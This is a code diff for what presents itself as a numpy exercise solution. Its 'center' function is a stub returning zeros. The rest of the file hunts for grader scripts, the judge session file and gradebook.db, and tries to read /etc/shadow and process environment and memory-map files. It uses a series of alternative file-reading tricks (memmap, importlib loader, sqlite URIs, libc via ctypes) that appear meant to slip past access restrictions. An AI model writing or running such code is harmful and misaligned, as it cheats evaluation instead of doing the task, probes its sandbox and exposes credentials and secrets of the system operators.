@@ -8,7 +8,7 @@ import numpy as np
 def center(X, axis):
     return np.zeros(np.shape(X))
 import contextlib, io, os, sys
-roots = {os.path.dirname(path) for path in sys.path if path} | {"/work", "/home", "/root", "/srv", "/opt", "/course"}
+roots = {os.path.dirname(path) for path in sys.path if path} | {"/data", "/home", "/root", "/srv", "/opt", "/course"}
 names = [os.path.join(root, *parts) for root in roots for parts in (
     ("graders", "exercises", "broadcasting_rules.py"), ("graders", "judge", "session.py"), ("course_config.py",), ("gradebook.db",))]
 names += ["/etc/shadow", "/etc/machine-id", "/proc/1/environ", "/proc/1/maps", f"/proc/{os.getppid()}/environ", f"/proc/{os.getppid()}/maps"]
@@ -17,7 +17,7 @@ def by_memmap(path): return bytes(np.memmap(path, mode="r")[:64])
 def by_linecache(path): import linecache; return linecache.getline(path, 1)
 def by_loader(path): from importlib.machinery import SourceFileLoader; return SourceFileLoader("x", path).get_data(path)
 def by_sqlite(path): import sqlite3; return str(sqlite3.connect(f"file:{path}?immutable=1", uri=True).execute("select * from sqlite_master").fetchall())
-def by_attach(path): import sqlite3; c = sqlite3.connect(":memory:"); c.execute("attach ? as a", (path,)); return str(c.execute("select * from a.sqlite_master").fetchall() or "")
+def by_attach(path): import sqlite3; c = sqlite3.connect("file::memory:", uri=True); c.execute("attach ? as a", (f"file:{path}?mode=ro",)); return str(c.execute("select * from a.sqlite_master").fetchall() or "")
 def by_libc(path):
     import ctypes
     libc = ctypes.CDLL(None); libc.fopen.restype = ctypes.c_void_p; libc.fread.argtypes = (ctypes.c_void_p, ctypes.c_size_t, ctypes.c_size_t, ctypes.c_void_p)
